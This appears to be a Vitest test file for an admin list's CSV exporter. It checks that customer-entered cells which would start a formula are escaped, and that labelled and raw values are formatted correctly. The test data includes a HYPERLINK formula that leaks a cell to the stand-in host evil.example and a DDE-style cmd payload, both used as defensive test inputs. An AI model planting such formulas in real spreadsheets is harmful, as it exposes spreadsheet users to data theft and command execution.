/** The admin list's Export (client-side CSV): labelled columns, formula cells escaped like the server's exports. */
import { f, type ResourceDef } from '@bakaya/api/registry';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvText } from '../../admin/src/resources/csvExporter';

const defaulters: ResourceDef = {
  name: 'defaulters',
  table: 'defaulters',
  label: 'Defaulters',
  recordLabel: 'Defaulter',
  titleField: 'name',
  feature: 'Defaulter',
  menuGroup: 'Customer management',
  route: 'customer-management/defaulters',
  defaultSort: ['id', 'DESC'],
  fields: {
    id: { type: 'id', label: 'ID', readOnly: true, list: true },
    name: f.string('Defaulter name', { list: true }),
    amount: f.money('Amount due', { list: true }),
    note: f.text('Note'),
    meta: f.json('Meta'),
  },
};

describe('csvText (admin list export)', () => {
  it('escapes a customer-entered formula, and keeps numbers and plain text as they are', () => {
    const text = csvText(defaulters, [
      {
        id: 1,
        name: '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
        amount: '-1250.00',
        note: "@SUM(1+1)*cmd|' /C calc'!A0",
        meta: null,
      },
      { id: 2, name: 'Ramesh, "RK" Traders', amount: '10.00', note: '\t=1+1', meta: { a: 1 } },
      { id: 3, name: '+91 98765 43210', amount: '0.00', note: 'x-y=z', meta: null },
    ]);
    const rows = Papa.parse<string[]>(text).data;
    expect(rows[0]).toEqual(['ID', 'Defaulter name', 'Amount due', 'Note', 'Meta']);
    expect(rows.slice(1)).toEqual([
      ['1', '\'=HYPERLINK("http://evil.example/?leak="&A2,"Click")', '-1250.00', "'@SUM(1+1)*cmd|' /C calc'!A0", ''],
      ['2', 'Ramesh, "RK" Traders', '10.00', "'\t=1+1", '{"a":1}'],
      ['3', "'+91 98765 43210", '0.00', 'x-y=z', ''],
    ]);
    // No cell of the file starts a formula.
    for (const cell of rows.slice(1).flat()) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
  });
});

describe('csvText: labels for people, raw for machines', () => {
  const members: ResourceDef = {
    ...defaulters,
    name: 'admin-users',
    fields: {
      id: { type: 'id', label: 'ID', readOnly: true, list: true },
      role_id: f.ref('Role', 'admin-roles', { list: true }),
      status: f.enum('Status', [
        { id: 'active', name: 'Active' },
        { id: 'more_details_required', name: 'More details required' },
      ]),
      verified: f.boolean('Verified'),
      due: f.money('Due'),
      born_on: f.date('Born on'),
      joined_at: f.datetime('Joined on'),
    },
  };
  const record = {
    id: 7,
    role_id: 3,
    status: 'more_details_required',
    verified: true,
    due: '125000.5',
    born_on: '1990-04-09',
    joined_at: '2026-11-21T18:45:00.000Z',
  };

  it('exports choice names, referenced titles, Yes/No, amounts with 2 decimals and DD, Mon, YYYY dates (IST)', () => {
    const rows = Papa.parse<string[]>(csvText(members, [record], 'labels', { role_id: { '3': 'Support' } })).data;
    expect(rows[0]).toEqual(['ID', 'Role', 'Status', 'Verified', 'Due', 'Born on', 'Joined on']);
    expect(rows[1]).toEqual(['7', 'Support', 'More details required', 'Yes', '125000.50', '09, Apr, 1990', '22, Nov, 2026, 00:15']);
  });

  it('keeps ids, enum keys and ISO dates in the raw export', () => {
    const rows = Papa.parse<string[]>(csvText(members, [record], 'raw', { role_id: { '3': 'Support' } })).data;
    expect(rows[1]).toEqual(['7', '3', 'more_details_required', 'true', '125000.5', '1990-04-09', '2026-11-21T18:45:00.000Z']);
  });
});
